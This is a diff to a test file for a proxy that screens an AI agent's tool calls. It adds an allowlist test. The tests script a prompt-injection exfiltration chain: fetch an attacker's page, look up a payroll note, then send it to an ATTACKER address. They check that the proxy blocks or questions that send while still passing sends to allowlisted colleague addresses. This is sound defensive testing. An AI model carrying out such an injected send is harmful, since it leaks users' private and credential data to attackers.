@@ -120,7 +120,13 @@ def test_a_stateless_client_gets_the_same_answers_and_the_server_asks_through_th
 # -- the exfiltration flow -------------------------------------------------------------------------------------
 
 
-async def _exfiltrate_handshake(params: StdioServerParameters, asker: Asker | None) -> list[types.CallToolResult]:
+async def _exfiltrate_handshake(
+    params: StdioServerParameters,
+    asker: Asker | None,
+    note: str = "payroll",
+    send: tuple[str, str] = (ATTACKER, NOTE),
+) -> list[types.CallToolResult]:
+    """Fetch the page, look up ``note``, send ``(to, body)``, through a handshake-era ClientSession."""
     async with (
         stdio_client(params) as (read, write),
         ClientSession(read, write, elicitation_callback=asker) as session,
@@ -129,8 +135,8 @@ async def _exfiltrate_handshake(params: StdioServerParameters, asker: Asker | No
         await session.list_tools()
         return [
             await session.call_tool("fetch_page", {"url": PAGE_URL}),
-            await session.call_tool("lookup", {"name": "payroll"}),
-            await session.call_tool("send_message", {"to": ATTACKER, "body": NOTE}),
+            await session.call_tool("lookup", {"name": note}),
+            await session.call_tool("send_message", {"to": send[0], "body": send[1]}),
         ]
 
 
@@ -222,3 +228,31 @@ def test_enforce_denies_without_asking(tmp_path: Path) -> None:
     assert sent.is_error and "blocked" in text_of(sent) and "enforce" in text_of(sent)
     assert asker.questions == []
     assert tools_that_ran(tmp_path) == ["fetch_page", "lookup"]
+
+
+COLLEAGUE = "dana.whitfield@corp.example"
+
+
+async def _send_to_colleague(params: StdioServerParameters, asker: Asker | None) -> list[types.CallToolResult]:
+    # A note the page does not name (the read is the agent's, not the page's), and its salary line, not its codes
+    # and account: a credential needs the user's words to leave.
+    return await _exfiltrate_handshake(
+        params, asker, note="salary-review", send=(COLLEAGUE, "Dana Whitfield base salary 187,400")
+    )
+
+
+def test_a_destination_the_host_allowlists_is_sent_to_and_others_are_still_asked_about(tmp_path: Path) -> None:
+    """The proxy sees no user message: a host passes the user's own destinations with --allowlist."""
+    *_, sent = anyio.run(_send_to_colleague, proxy_params(tmp_path, "--allowlist", "corp.example"), None)
+    assert not sent.is_error and text_of(sent) == f"sent to {COLLEAGUE}"
+    # Without it the same send, private data to an address nobody named, is refused (this client cannot be asked).
+    other = tmp_path / "other"
+    other.mkdir()
+    *_, refused = anyio.run(_send_to_colleague, proxy_params(other), None)
+    assert refused.is_error and COLLEAGUE in text_of(refused)
+    assert tools_that_ran(other) == ["fetch_page", "lookup"]
+    # The allowlist never covers what the attacker's page suggested.
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    *_, attacked = anyio.run(_exfiltrate_handshake, proxy_params(elsewhere, "--allowlist", "corp.example"), None)
+    assert attacked.is_error and ATTACKER in text_of(attacked)
